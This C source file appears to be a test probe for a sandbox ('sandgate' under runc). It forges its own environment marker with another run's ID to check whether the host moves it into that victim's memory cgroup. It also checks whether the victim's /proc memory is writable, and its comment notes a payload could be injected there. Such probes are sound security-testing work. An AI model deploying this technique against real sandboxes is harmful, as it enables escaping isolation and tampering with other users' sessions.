/*
 * markforge SECONDS VICTIMS: an exec of the sandbox that takes another
 * exec's place in its memory cgroup. Under runc each exec's command waits
 * (`sandgate-probe join RUN -- CMD`) until the host moves it into
 * sandgate-cmds/RUN. This process watches /proc for the join of any other
 * run (its argv names the run, and every process of the sandbox user can
 * read it), writes that run into its own SANDGATE_RUN marker in place (the
 * environment /proc/self/environ shows is this process's own memory), and
 * checks whether the host moved it into that run's memory cgroup. Its own
 * marker goes back after each try (so the victim's end does not take it).
 * It also tries to open the waiting join's memory for writing (a payload
 * written there would run beside the session's init, in the container's
 * memory cgroup, before the move). Stops after VICTIMS joins seen or
 * SECONDS; prints "seen N moved M writable W" and one line per run it
 * landed in.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define KEY	"SANDGATE_RUN="

extern char	**environ;

static ssize_t
slurp(const char *path, char *buf, size_t size)
{
	ssize_t	n;
	int	fd;

	if ((fd = open(path, O_RDONLY)) == -1)
		return -1;
	n = read(fd, buf, size - 1);
	close(fd);
	if (n >= 0)
		buf[n] = '\0';
	return n;
}

static double
now(void)
{
	struct timespec	ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* The run of another exec's join now in /proc, into run; its pid, or 0. */
static int
find_join(const char *own, const char *last, size_t len, char *run)
{
	char		 path[300], buf[512], *a1, *a2;
	struct dirent	*de;
	DIR		*d;
	ssize_t		 n;
	int		 found = 0;

	if ((d = opendir("/proc")) == NULL)
		return 0;
	while (!found && (de = readdir(d)) != NULL) {
		if (de->d_name[0] < '1' || de->d_name[0] > '9')
			continue;
		snprintf(path, sizeof(path), "/proc/%s/cmdline", de->d_name);
		if ((n = slurp(path, buf, sizeof(buf))) <= 0)
			continue;
		a1 = buf + strlen(buf) + 1;
		if (a1 >= buf + n || strcmp(a1, "join") != 0)
			continue;
		a2 = a1 + strlen(a1) + 1;
		if (a2 >= buf + n || strlen(a2) != len ||
		    strcmp(a2, own) == 0 || strcmp(a2, last) == 0)
			continue;
		memcpy(run, a2, len + 1);
		found = atoi(de->d_name);
	}
	closedir(d);
	return found;
}

/* 1 when our memory cgroup is .../run. */
static int
in_run(const char *run)
{
	char	 buf[4096], *p, *e;
	size_t	 rl = strlen(run);

	if (slurp("/proc/self/cgroup", buf, sizeof(buf)) <= 0 ||
	    (p = strstr(buf, ":memory:")) == NULL)
		return 0;
	if ((e = strchr(p, '\n')) != NULL)
		*e = '\0';
	return strlen(p) > rl && p[strlen(p) - rl - 1] == '/' &&
	    strcmp(p + strlen(p) - rl, run) == 0;
}

int
main(int argc, char **argv)
{
	char	*mark = NULL, own[128], run[128], last[128] = "";
	double	 end, t;
	size_t	 len;
	char	 path[64];
	int	 i, pid, fd, seen = 0, moved = 0, writable = 0, victims;

	if (argc != 3)
		return 2;
	end = now() + atof(argv[1]);
	victims = atoi(argv[2]);
	for (i = 0; environ[i] != NULL; i++)
		if (strncmp(environ[i], KEY, strlen(KEY)) == 0)
			mark = environ[i] + strlen(KEY);
	if (mark == NULL || (len = strlen(mark)) >= sizeof(own))
		return 3;
	memcpy(own, mark, len + 1);
	while (seen < victims && now() < end) {
		if ((pid = find_join(own, last, len, run)) == 0)
			continue;
		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
		if ((fd = open(path, O_RDWR)) != -1) {
			writable++;
			close(fd);
		}
		memcpy(mark, run, len);		/* the forged marker */
		memcpy(last, run, len + 1);
		seen++;
		for (t = now() + 0.3; now() < t && !in_run(run); )
			usleep(1000);
		if (in_run(run)) {
			moved++;
			printf("landed in %s\n", run);
		}
		memcpy(mark, own, len);
	}
	printf("seen %d moved %d writable %d\n", seen, moved, writable);
	return 0;
}
